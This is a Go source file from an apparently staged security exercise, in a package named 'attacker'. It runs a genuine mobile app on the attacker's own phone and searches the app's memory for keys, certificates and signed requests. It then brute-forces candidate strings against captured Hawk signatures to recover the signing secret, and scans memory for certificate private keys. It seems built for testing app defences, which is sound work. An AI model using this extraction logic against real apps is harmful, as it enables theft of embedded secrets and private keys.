package attacker

import (
	"context"
	"fmt"

	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/hawk"
)

// hook starts the genuine app on the attacker's own phone, uses it, and searches its
// memory. The search knows what keys, signed requests and certificates look like, and
// not where they are, what they are called, or how the package hides them. Whoever
// holds the phone closes it.
func (g *Ground) hook(ctx context.Context) (*phone, *loot, error) {
	p, err := g.open(ctx, g.Package, nil)
	if err != nil {
		return nil, nil, err
	}
	found, err := p.hook(ctx)
	if err != nil {
		p.close()
		return nil, nil, err
	}
	return p, found, nil
}

func (p *phone) hook(ctx context.Context) (*loot, error) {
	if err := p.signIn(ctx); err != nil {
		return nil, err
	}
	if _, err := shown(p.app.Accounts(ctx)); err != nil {
		return nil, err
	}
	p.g.Say("Started the genuine app on our own phone and had it show the accounts.")
	signed := p.g.Stage.Call.AppProof == catalog.Hawk
	found, candidates := &loot{}, texts{}
	searched, err := eachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) {
		found.search(data)
		if signed {
			candidates.collect(data)
		}
	})
	if err != nil {
		return nil, fmt.Errorf("read the app's memory: %w", err)
	}
	p.g.Say("Searched %d MiB of its memory.", searched>>20)
	if signed {
		if err := p.proveSecret(found, candidates); err != nil {
			return nil, err
		}
	}
	if p.g.Stage.Call.Transport == catalog.MutualTLS && len(found.clientCertificates()) == 0 {
		if err := p.findKey(ctx, found); err != nil {
			return nil, err
		}
	}
	p.g.Say("Found in it: %s.", found)
	return found, nil
}

// proveSecret tries all texts against the signed requests that lay in the same memory.
func (p *phone) proveSecret(found *loot, candidates texts) error {
	host, port, err := hawk.HostPort(p.g.TLS)
	if err != nil {
		return err
	}
	found.secrets = nil // what has a name may be a decoy; what fits a signature is the secret
	p.g.Say("%d signed requests lay there, and %d texts that could be a secret.", len(found.signatures), len(candidates))
	if secret := candidates.prove(host, port, found.signatures); secret != "" {
		found.secrets = []string{secret}
		p.g.Say("One of the texts makes the same signature: it is the secret (%s).", fingerprint(secret))
	}
	return nil
}

// findKey looks for the private key of a certificate that the app has, as a number.
func (p *phone) findKey(ctx context.Context, found *loot) error {
	keys := newScalars(found.certificates)
	p.g.Say("No private key stands there as a file would have it. Trying every number in memory that looks random against the certificates that are there, too.")
	if _, err := eachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) { keys.search(data) }); err != nil {
		return fmt.Errorf("read the app's memory: %w", err)
	}
	for _, key := range keys.found {
		found.addPrivateKey(key)
	}
	p.g.Say("Tried %d numbers: %d of them is the private key of a certificate.", len(keys.tried), len(keys.found))
	return nil
}
